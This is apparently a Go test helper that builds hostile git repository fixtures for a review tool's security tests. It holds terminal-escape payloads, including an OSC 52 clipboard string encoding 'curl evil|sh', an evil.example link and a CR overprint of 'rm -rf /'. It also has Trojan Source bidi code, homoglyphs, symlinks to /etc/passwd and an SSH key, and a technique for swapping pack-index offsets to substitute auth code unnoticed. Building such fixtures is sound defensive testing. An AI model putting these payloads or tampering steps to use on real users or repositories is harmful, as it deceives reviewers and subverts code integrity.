package repotest

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/filemode"
	"github.com/go-git/go-git/v5/plumbing/format/packfile"
	"github.com/go-git/go-git/v5/plumbing/storer"
)

// The hostile fixture of SECURITY-NOTES §3.4, byte for byte as its shell
// recipe writes it. Tests of every layer (textsafe, scan, the TUI in tmux)
// open these files and check what the reviewer sees.
const (
	// HostileEscapes is escapes.txt: every terminal escape from issue 6,
	// one per line after the first (CSI cursor/erase, OSC 52 clipboard,
	// OSC 8 hyperlink, OSC 0/2 title, DCS, C1 CSI as UTF-8 and raw, CR
	// and BS overprinting).
	HostileEscapes = "normal line\n" +
		"ESC CSI: \x1b[31mRED\x1b[0m and clear \x1b[2J\n" +
		"OSC52: \x1b]52;c;" + hostileClip + "\x07\n" +
		"OSC8: \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\n" +
		"TITLE: \x1b]0;owned\x07 \x1b]2;owned2\x07\n" +
		"DCS: \x1bP$q\"p\x1b\\\n" +
		"C1 CSI byte: \xc2\x9b31m (UTF-8 U+009B) raw C1 \x9b31m\n" +
		"CR overprint: rm -rf /\rechoXXXXXXXX\n" +
		"BS overprint: good\b\b\b\bevil\n"

	// HostileTrojan is trojan.c: the Trojan Source paper's
	// commenting-out example (lines 3-5: the admin-only block looks
	// commented out but runs, or the reverse, depending on the renderer).
	HostileTrojan = "#include <stdio.h>\nint main(){ int isAdmin=0;\n" +
		"  /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n" +
		"  puts(\"admin\");\n" +
		"  /* end admins only \u202e { \u2066*/\n}\n"

	// HostileEarlyReturn is trojan_return.c: the paper's early-return
	// technique. An RLI (U+2067) inside a comment makes the code after
	// the comment's end display as if it were still comment text, so the
	// "return 1" that ends main before anything runs looks harmless.
	HostileEarlyReturn = "#include <stdio.h>\n\nint main(void) {\n" +
		"    /* log the start-up banner\u2067 /*/ return 1 ;\n" +
		"    puts(\"started\");\n" +
		"    return 0;\n}\n"

	// HostileHomoglyph is homoglyph.js: a Cyrillic а identifier (line 2),
	// a zero-width space (line 3), and U+FEFF, ZWJ, ZWNJ, WJ (line 4).
	HostileHomoglyph = "var a = \"x\";\n" +
		"var \xd0\xb0 = \"cyrillic a\";  // U+0430\n" +
		"if (a\xe2\x80\x8b == \"x\") {} // ZWSP U+200B\n" +
		"\xef\xbb\xbfBOM mid-file U+FEFF, ZWJ\xe2\x80\x8d ZWNJ\xe2\x80\x8c WJ\xe2\x81\xa0\n"

	// HostileBadUTF8 is badutf8.txt: invalid UTF-8 of every sort.
	HostileBadUTF8 = "valid then invalid: \xff\xfe \xc3\x28 \xed\xa0\x80 (surrogate) \xf4\x90\x80\x80 (>U+10FFFF) overlong \xc0\xaf\n"

	// HostileNUL is nul.txt, which git calls binary.
	HostileNUL = "text\x00with NUL\n"

	// HostileNULSource is nulsrc.c: C that GCC compiles (with a warning)
	// but that git calls binary, so review tools hide it.
	HostileNULSource = "int main(void){\x00return 42;}\n"

	// Hostile file names.
	HostileEscName     = "esc\x1b[31mred.txt"
	HostileNewlineName = "name\nwith newline.txt"
	HostileBidiName    = "bidi\u202etxt.exe"

	// HostileAuthor is the author and committer name of every commit.
	HostileAuthor = "Evil\x1b]0;pwned\x07\x1b[2J Author"

	// HostileMessage is the message of the first commit: OSC 52 in the
	// subject, a concealing SGR and a CR overprint in the body.
	HostileMessage = "subject \x1b]52;c;ZXZpbA==\x07 hidden\n\nbody \x1b[8mconcealed\x1b[0m\r overprint"

	// HostileTagMessage is the message of the annotated tag "hostile".
	HostileTagMessage = "release \x1b]0;tagged\x07 notes\n"

	// HostileGitlink is the commit the vendor/sub gitlink pins.
	HostileGitlink = "1111111111111111111111111111111111111111"

	// HostileLongLineLen is the size of longline.txt: 1 MiB of 'x' and LF.
	HostileLongLineLen = 1<<20 + 1

	// HostileHugeLen is the size of huge.txt.
	HostileHugeLen = 100 << 20
)

// hostileClip is base64("curl evil|sh"), the clipboard payload.
const hostileClip = "Y3VybCBldmlsfHNo"

// HostileDeepPath is the file at the bottom of a 200-level directory chain.
var HostileDeepPath = strings.Repeat("d/", 200) + "deep.txt"

// HostileOptions adds the slow parts of the fixture.
type HostileOptions struct {
	LongLine bool // longline.txt: one line of 1 MiB
	Huge     bool // huge.txt: a 100 MiB text file
}

// Hostile builds the SECURITY-NOTES §3.4 fixture: commit 1 holds every
// hostile file, name, symlink and the 200-deep directory, with a hostile
// author and message; commit 2 (HEAD, on main) adds the vendor/sub gitlink.
// The annotated tag "hostile" points at commit 1.
func Hostile(t testing.TB, opts HostileOptions) *Repo {
	t.Helper()
	if base64.StdEncoding.EncodeToString([]byte("curl evil|sh")) != hostileClip {
		t.Fatal("repotest: hostile clipboard payload is wrong")
	}
	r := New(t)
	r.Author.Name, r.Author.Email = HostileAuthor, "e@x"
	tree := Tree{
		"escapes.txt":        {Content: HostileEscapes},
		"trojan.c":           {Content: HostileTrojan},
		"trojan_return.c":    {Content: HostileEarlyReturn},
		"homoglyph.js":       {Content: HostileHomoglyph},
		"badutf8.txt":        {Content: HostileBadUTF8},
		"blob.bin":           {Content: randomBytes(4096)},
		"nul.txt":            {Content: HostileNUL},
		"nulsrc.c":           {Content: HostileNULSource},
		"outside_link":       {Content: "/etc/passwd", Mode: filemode.Symlink},
		"rel_outside_link":   {Content: "../../../../root/.ssh/id_ed25519", Mode: filemode.Symlink},
		HostileNewlineName:   {Content: ""},
		HostileEscName:       {Content: ""},
		HostileBidiName:      {Content: ""},
		HostileDeepPath:      {Content: "deep\n"},
		"README.clean.md":    {Content: "An ordinary file: nothing to see here.\n"},
		"src/clean/module.c": {Content: "int add(int a, int b) {\n\treturn a + b;\n}\n"},
	}
	if opts.LongLine {
		tree["longline.txt"] = File{Content: strings.Repeat("x", 1<<20) + "\n"}
	}
	if opts.Huge {
		tree["huge.txt"] = File{Blob: r.hugeBlob()}
	}
	first := r.Commit(HostileMessage, tree)
	r.Tag("hostile", first, HostileTagMessage)
	tree["vendor/sub"] = File{Content: HostileGitlink, Mode: filemode.Submodule}
	r.Commit("add gitlink", tree)
	return r
}

// randomBytes is deterministic noise for blob.bin.
func randomBytes(n int) string {
	rng := rand.New(rand.NewPCG(42, 6))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return string(b)
}

// hugeLine is the 64-byte line huge.txt repeats.
const hugeLine = "generated line of a very large vendor file, 64 bytes long......\n"

// hugeBlob stores huge.txt (HostileHugeLen bytes of hugeLine) as a loose
// object written directly, zlib-framed but not compressed: go-git's
// writer deflates and hashes with collision detection, which takes over a
// minute for 100 MiB under the race detector; this takes seconds.
func (r *Repo) hugeBlob() plumbing.Hash {
	r.t.Helper()
	chunk := []byte(strings.Repeat(hugeLine, 1024))
	n := HostileHugeLen / len(chunk)
	header := fmt.Sprintf("blob %d\x00", n*len(chunk))
	h := sha1.New()
	h.Write([]byte(header))
	for range n {
		h.Write(chunk)
	}
	var id plumbing.Hash
	copy(id[:], h.Sum(nil))
	path := r.ObjectPath(id)
	err := os.MkdirAll(filepath.Dir(path), 0o755)
	var f *os.File
	if err == nil {
		f, err = os.Create(path)
	}
	if err == nil {
		zw, _ := zlib.NewWriterLevel(f, zlib.NoCompression)
		_, err = zw.Write([]byte(header))
		for i := 0; i < n && err == nil; i++ {
			_, err = zw.Write(chunk)
		}
		if cerr := zw.Close(); err == nil {
			err = cerr
		}
		if cerr := f.Close(); err == nil {
			err = cerr
		}
	}
	if err != nil {
		r.t.Fatalf("repotest: huge blob: %v", err)
	}
	return id
}

// The substituted-objects fixture (SECURITY-NOTES HOST-28, issue 17):
// paths and contents. Each substituted file's HEAD blob reads back as
// its Evil content, which does not hash to the blob's id.
const (
	SubstitutedLoosePath  = "src/auth.go"  // its HEAD blob is loose; the file holds SubstitutedLooseEvil
	SubstitutedPackedPath = "src/check.go" // its HEAD blob is packed; the index sends it to SubstitutedPackedEvil
	SubstitutedIntactPath = "src/util.go"  // untouched, the same in both commits

	SubstitutedLooseBefore  = "package src\n\nfunc Allowed(u User) bool {\n\treturn u.Admin\n}\n"
	SubstitutedLooseAfter   = "package src\n\nfunc Allowed(u User) bool {\n\treturn u.Admin && checkPassword(u)\n}\n"
	SubstitutedLooseEvil    = "package src\n\nfunc Allowed(u User) bool {\n\treturn true\n}\n"
	SubstitutedPackedBefore = "package src\n\nfunc Check(tok string) error {\n\treturn nil\n}\n"
	SubstitutedPackedAfter  = "package src\n\nfunc Check(tok string) error {\n\treturn verifySignature(tok)\n}\n"
	SubstitutedPackedEvil   = "package src\n\nfunc Check(tok string) error {\n\treturn nil // verified\n}\n"
	SubstitutedIntact       = "package src\n\nfunc Add(a, b int) int { return a + b }\n"
)

// Substituted is a repository whose object store was tampered with after
// its two commits were made. Commit 1 holds the Before contents, commit 2
// (HEAD, on main) the After ones; then the loose file of the HEAD blob of
// SubstitutedLoosePath was overwritten with SubstitutedLooseEvil, and the
// HEAD blob of SubstitutedPackedPath was packed next to Decoy (a blob no
// tree names, holding SubstitutedPackedEvil) with their index entries'
// offsets swapped, so each id leads to the other's bytes. Everything
// else (commits, trees, the Before blobs) is loose and intact. Every
// reader must refuse Loose, Packed and Decoy (go-git and git read them
// back without a word).
type Substituted struct {
	*Repo
	First, Head plumbing.Hash // the two commits
	Loose       plumbing.Hash // HEAD blob of SubstitutedLoosePath
	Packed      plumbing.Hash // HEAD blob of SubstitutedPackedPath
	Decoy       plumbing.Hash
}

// NewSubstituted builds the Substituted fixture.
func NewSubstituted(t testing.TB) *Substituted {
	t.Helper()
	r := New(t)
	first := r.Commit("first", Tree{
		SubstitutedLoosePath:  {Content: SubstitutedLooseBefore},
		SubstitutedPackedPath: {Content: SubstitutedPackedBefore},
		SubstitutedIntactPath: {Content: SubstitutedIntact},
	})
	head := r.Commit("harden auth", Tree{
		SubstitutedLoosePath:  {Content: SubstitutedLooseAfter},
		SubstitutedPackedPath: {Content: SubstitutedPackedAfter},
		SubstitutedIntactPath: {Content: SubstitutedIntact},
	})
	s := &Substituted{Repo: r, First: first, Head: head,
		Loose: r.Blob(SubstitutedLooseAfter), Packed: r.Blob(SubstitutedPackedAfter), Decoy: r.Blob(SubstitutedPackedEvil)}
	r.SubstituteBlob(s.Loose, SubstitutedLooseEvil)
	r.SubstitutePacked(s.Packed, s.Decoy)
	return s
}

// SubstitutePacked packs the blob id next to the object decoy and swaps
// their index entries' offsets, so that each id leads to the other's
// bytes while the pack index stays self-consistent: a packed object
// substituted as a tampered store would hold it.
func (r *Repo) SubstitutePacked(id, decoy plumbing.Hash) {
	r.t.Helper()
	swapIndexOffsets(r.t, r.packObjects(id, decoy), id, decoy)
}

// packObjects writes the given objects into a new pack (whole, no
// deltas), removes their loose files, and returns the pack's index path.
func (r *Repo) packObjects(ids ...plumbing.Hash) string {
	r.t.Helper()
	before, _ := filepath.Glob(filepath.Join(r.Dir, ".git", "objects", "pack", "*.idx"))
	pw, ok := r.storer.(storer.PackfileWriter)
	if !ok {
		r.t.Fatal("repotest: the storage cannot write packs")
	}
	w, err := pw.PackfileWriter()
	if err == nil {
		_, err = packfile.NewEncoder(w, r.storer, false).Encode(ids, 0)
		if cerr := w.Close(); err == nil {
			err = cerr
		}
	}
	if err != nil {
		r.t.Fatalf("repotest: pack: %v", err)
	}
	after, _ := filepath.Glob(filepath.Join(r.Dir, ".git", "objects", "pack", "*.idx"))
	if len(after) != len(before)+1 {
		r.t.Fatalf("repotest: pack: %d indexes before, %d after", len(before), len(after))
	}
	for _, id := range ids {
		r.RemoveObject(id)
	}
	for _, p := range after {
		if !slices.Contains(before, p) {
			return p
		}
	}
	r.t.Fatal("repotest: pack: no new index")
	return ""
}

// swapIndexOffsets exchanges the pack offsets (and CRCs) of a and b in a
// version 2 pack index and rewrites its checksum, so the index stays
// self-consistent while each id leads to the other's entry.
func swapIndexOffsets(t testing.TB, idxPath string, a, b plumbing.Hash) {
	t.Helper()
	data, err := os.ReadFile(idxPath)
	if err != nil {
		t.Fatalf("repotest: %v", err)
	}
	const names = 8 + 256*4
	n := int(binary.BigEndian.Uint32(data[names-4:]))
	pos := func(h plumbing.Hash) int {
		for i := range n {
			if bytes.Equal(data[names+i*20:names+i*20+20], h[:]) {
				return i
			}
		}
		t.Fatalf("repotest: %s is not in %s", h, idxPath)
		return 0
	}
	i, j := pos(a), pos(b)
	for _, table := range []int{names + n*20, names + n*24} { // CRCs, then offsets
		x, y := data[table+i*4:table+i*4+4], data[table+j*4:table+j*4+4]
		var tmp [4]byte
		copy(tmp[:], x)
		copy(x, y)
		copy(y, tmp[:])
	}
	sum := sha1.Sum(data[:len(data)-20])
	copy(data[len(data)-20:], sum[:])
	_ = os.Chmod(idxPath, 0o644)
	if err := os.WriteFile(idxPath, data, 0o444); err != nil {
		t.Fatalf("repotest: %v", err)
	}
}
